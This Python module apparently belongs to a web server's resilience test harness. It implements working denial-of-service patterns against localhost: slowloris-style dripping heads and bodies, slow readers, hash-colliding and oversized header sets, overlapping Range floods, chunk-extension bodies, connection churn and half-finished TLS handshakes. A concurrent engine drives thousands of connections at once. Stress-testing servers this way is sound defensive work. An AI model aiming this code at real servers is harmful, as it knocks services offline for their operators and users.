# SPDX-License-Identifier: MIT
"""What attackers do: a process that keeps many connections busy in one way until time is up."""

import contextlib
import errno
import itertools
import select
import socket
import ssl
import struct
import time
from collections.abc import Iterator
from dataclasses import asdict, dataclass

ATTACKER = "127.0.0.1"
HOST = b"Host: localhost\r\n"
CHUNK = 64 * 1024
OPENED_AT_ONCE = 64
RESET = struct.pack("ii", 1, 0)  # SO_LINGER: no TIME_WAIT uses up the attacker's ports


@dataclass(frozen=True)
class Attack:
    """Each connection sends `octets`, then `drip`, one octet a second, and again and again."""

    name: str
    title: str
    connections: int
    octets: bytes
    endless: bool = False  # `octets` again and again, as fast as they are taken
    drip: bytes = b""
    reads: int | None = None  # octets a second; None: all that comes
    keeps_unread: bool = False  # answers are never read
    closes: bool = False  # ends the connection once it is open, TLS included
    leaves: bool = False  # ends it once something is answered
    slow: bool = False  # lasts longer: it is about what is held, and for how long
    # "plain"; "below tls": plain octets to a port for TLS; "tls": with a handshake
    protocol: str = "plain"

    @property
    def wants_tls(self) -> bool:
        return self.protocol != "plain"


@dataclass
class Effort:
    """What the attacker came to."""

    opened: int = 0
    refused: int = 0  # could not be opened
    let_go: int = 0  # ended by the server
    sent: int = 0  # octets
    received: int = 0


def get(path: str, *fields: bytes) -> bytes:
    return b"".join((f"GET /{path} HTTP/1.1\r\n".encode(), HOST, *fields, b"\r\n"))


def repeated(octets: bytes) -> bytes:
    """As often as fits into what is sent at once."""
    return octets * max(1, CHUNK // len(octets))


def colliding_names(count: int) -> list[bytes]:
    """Half of them have one hash in `hash * 31 + octet`, the others in `hash * 33 + octet`."""
    names = []
    for one, other in ((b"an", b"c0"), (b"aw", b"c5")):
        pairs = itertools.product((one, other), repeat=9)
        names += [b"".join(each) for each in itertools.islice(pairs, count // 2)]
    return names


def with_fields(names: list[bytes], value: bytes) -> bytes:
    return get("small.html", *(name + b": " + value + b"\r\n" for name in names))


def numbered(count: int) -> list[bytes]:
    return [b"x-%d" % number for number in range(count)]


def many_ranges() -> bytes:
    return b"Range: bytes=" + b",".join(b"%d-" % start for start in range(1000)) + b"\r\n"


def client_hello() -> bytes:
    outgoing = ssl.MemoryBIO()
    client = tls_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


def tls_context() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def post(*fields: bytes) -> bytes:
    return b"".join((b"POST /small.html HTTP/1.1\r\n", HOST, *fields, b"\r\n"))


CODINGS = repeated(b"".join(
    get(f"text.html?{number}", b"Accept-Encoding: " + coding + b"\r\n")
    for number, coding in enumerate((b"gzip", b"br", b"zstd"))))
ATTACKS = {
    attack.name: attack
    for attack in (
        Attack("nothing", "nobody attacks", 0, b""),
        Attack("idle", "connections that are idle after a request", 4000, get("small.html"),
               slow=True),
        Attack("slow-heads", "request heads, an octet a second", 4000,
               b"GET / HTTP/1.1\r\n" + HOST + b"X-Slow: ", drip=b"a", slow=True),
        Attack("slow-bodies", "bodies of which 1 MiB is promised, an octet a second", 2000,
               post(b"Content-Length: 1048576\r\n"), drip=b"a", slow=True),
        Attack("slow-readers", "a 10 MiB file, read at 1 KiB a second", 500, get("large.bin"),
               reads=1024, slow=True),
        Attack("fields", "heads of 98 fields and 15 KiB, with names that collide", 64,
               repeated(with_fields(colliding_names(98), b"v" * 125)), endless=True),
        Attack("many-fields", "heads of 5000 fields", 64,
               with_fields(numbered(5000), b"v" * 8), endless=True),
        Attack("collisions", "heads of 1000 names that collide", 64,
               with_fields(colliding_names(1000), b"v"), endless=True),
        Attack("pipelining", "requests without end, and no answer is read", 64,
               repeated(get("small.html")), endless=True, keeps_unread=True),
        Attack("connections", "connections opened and closed", 256, b"", closes=True),
        Attack("requests", "requests without end, answers read", 64,
               repeated(get("small.html")), endless=True),
        Attack("ranges", "1000 ranges of 10 MiB that overlap", 32,
               get("large.bin", many_ranges()), endless=True),
        Attack("codings", "2 MiB of text, in each content coding", 64, CODINGS, endless=True),
        Attack("chunks", "bodies of tiny chunks with extensions", 64,
               post(b"Transfer-Encoding: chunked\r\n") + repeated(b"1;a=bcdefgh\r\nx\r\n"),
               endless=True),
        Attack("half-handshakes", "half a ClientHello, then an octet a second", 4000,
               client_hello()[:120], drip=b"\0", slow=True, protocol="below tls"),
        Attack("hellos", "a ClientHello, whose sender goes when it is answered", 64, client_hello(),
               leaves=True, protocol="below tls"),
        Attack("handshakes", "TLS handshakes, each closed when done", 64, b"", closes=True,
               protocol="tls"),
    )
}


@dataclass
class Victim:
    """One connection to the server under attack."""

    socket: socket.socket
    is_open: bool = False
    sent: int = 0  # of what is to be sent


class Attacker:
    def __init__(self, attack: Attack, port: int):
        self.attack = attack
        self.address = ("127.0.0.1", port)
        self.effort = Effort()
        self.victims: dict[int, Victim] = {}
        self.poll = select.epoll()
        self.octets = memoryview(attack.octets)
        self.tls = tls_context() if attack.protocol == "tls" else None

    def run(self, until: float) -> dict[str, int]:
        next_second = time.monotonic() + 1
        while (now := time.monotonic()) < until:
            self.open_more()
            for number, events in self.poll.poll(min(0.05, max(0.0, until - now)), 1024):
                self.attend(self.victims[number], events)
            if now >= next_second:
                next_second = now + 1
                self.each_second()
        return asdict(self.effort)

    def open_more(self) -> None:
        missing = self.attack.connections - len(self.victims)
        for _ in range(min(missing, OPENED_AT_ONCE)):
            one = socket.socket()
            one.setblocking(False)
            if self.attack.reads is not None:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            if one.connect_ex(self.address) not in (0, errno.EINPROGRESS):
                self.effort.refused += 1
                one.close()
                return
            if self.tls:
                one = self.tls.wrap_socket(one, do_handshake_on_connect=False,
                                           server_hostname="localhost")
            victim = Victim(one)
            self.victims[one.fileno()] = victim
            self.poll.register(one, select.EPOLLOUT)

    def want(self, victim: Victim, mask: int) -> None:
        self.poll.modify(victim.socket, mask)

    def attend(self, victim: Victim, events: int) -> None:
        try:
            if not victim.is_open:
                self.come_in(victim)
            elif events & (select.EPOLLERR | select.EPOLLHUP):
                self.drop(victim, by_server=True)
            else:
                if events & select.EPOLLOUT:
                    self.send(victim)
                if events & select.EPOLLIN:
                    self.read_all(victim)
        except (BlockingIOError, ssl.SSLWantWriteError):
            pass
        except ssl.SSLWantReadError:
            self.want(victim, select.EPOLLIN)
        except OSError:
            self.drop(victim, by_server=True)

    def come_in(self, victim: Victim) -> None:
        fault = victim.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if fault:
            raise OSError(fault, "cannot connect")
        if isinstance(victim.socket, ssl.SSLSocket):
            victim.socket.do_handshake()
        victim.is_open = True
        self.effort.opened += 1
        if self.attack.closes:
            self.drop(victim, by_server=False)
        elif self.octets:
            self.send(victim)
            self.want(victim, self.wishes(victim))

    def wishes(self, victim: Victim) -> int:
        attack = self.attack
        writes = attack.endless or victim.sent < len(self.octets)
        reads = attack.reads is None and not attack.keeps_unread
        return select.EPOLLOUT * writes | select.EPOLLIN * reads

    def send(self, victim: Victim) -> None:
        sent = victim.socket.send(self.octets[victim.sent:victim.sent + CHUNK])
        self.effort.sent += sent
        victim.sent += sent
        if victim.sent == len(self.octets):
            if self.attack.endless:
                victim.sent = 0
            else:
                self.want(victim, self.wishes(victim))

    def read_all(self, victim: Victim) -> None:
        got = len(victim.socket.recv(4 * CHUNK))
        self.effort.received += got
        if not got or self.attack.leaves:
            self.drop(victim, by_server=not got)

    def drop(self, victim: Victim, by_server: bool) -> None:
        self.effort.let_go += by_server
        del self.victims[victim.socket.fileno()]
        self.poll.unregister(victim.socket)
        with contextlib.suppress(OSError):
            victim.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        victim.socket.close()

    def each_second(self) -> None:
        if not self.attack.drip and self.attack.reads is None:
            return
        for victim in self.all_open():
            try:
                if self.attack.drip:
                    self.effort.sent += victim.socket.send(self.attack.drip)
                if self.attack.reads is not None:
                    self.effort.received += len(victim.socket.recv(self.attack.reads))
            except BlockingIOError:
                pass
            except OSError:
                self.drop(victim, by_server=True)

    def all_open(self) -> Iterator[Victim]:
        yield from [victim for victim in self.victims.values() if victim.is_open]
